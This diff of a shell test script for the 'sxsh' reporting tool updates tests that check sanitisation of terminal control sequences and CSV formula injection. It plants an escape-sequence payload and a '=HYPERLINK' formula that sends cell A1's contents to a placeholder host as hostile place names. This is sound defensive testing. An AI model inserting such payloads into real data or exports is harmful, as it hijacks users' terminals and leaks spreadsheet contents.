@@ -36,8 +36,11 @@ sqlite3 "$SXSH_DB" "UPDATE places SET name = '$EVIL' WHERE name = 'Mai Sơn';
   INSERT INTO people (uuid, updated_at, origin, full_name, name_key, sort_key, unit)
   VALUES ('p1', 1, 'o', '$EVIL', 'lo', 'l', '$EVIL');
   INSERT INTO participants (uuid, updated_at, origin, session_uuid, person_uuid)
-  VALUES ('x1', 1, 'o', '0196b0a0-0000-7000-8000-000000000001', 'p1');"
-run sxsh report --format text
+  VALUES ('x1', 1, 'o', '0196b0a0-0000-7000-8000-000000000001', 'p1');
+  INSERT INTO facilities (uuid, updated_at, origin, name, name_key, sort_key, place_uuid, cp_potential)
+  VALUES ('f1', 1, 'o', 'Xưởng', 'xuong', 'x', (SELECT uuid FROM places WHERE code = '125'), 1);"
+# (the facility gives the renamed district a row in the report's areas)
+run sxsh report --plan SL-SXSH-2016-2020 --format text
 expect_status 0
 has_control "$T/out" && fail "report: raw control characters"
 expect_out_has "Lò�]0;pwned��[2J Thị x y forged row Mai"
@@ -58,7 +61,7 @@ case_ "report --format csv: a cell that a spreadsheet would run as a formula sta
 run sxsh init
 sqlite3 "$SXSH_DB" "UPDATE places SET name = '=HYPERLINK(\"http://x.example/\"&A1,\"Mai Sơn\")' WHERE name = 'Mai Sơn';
   UPDATE places SET name = '@SUM(1+1)' WHERE name = 'Yên Châu';"
-run sxsh report --format csv
+run sxsh report --plan SL-SXSH-2016-2020 --format csv
 expect_status 0
 expect_out_has "district,\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"Mai Sơn\"\")\",informed,"
 expect_out_has "district,'@SUM(1+1),informed,"
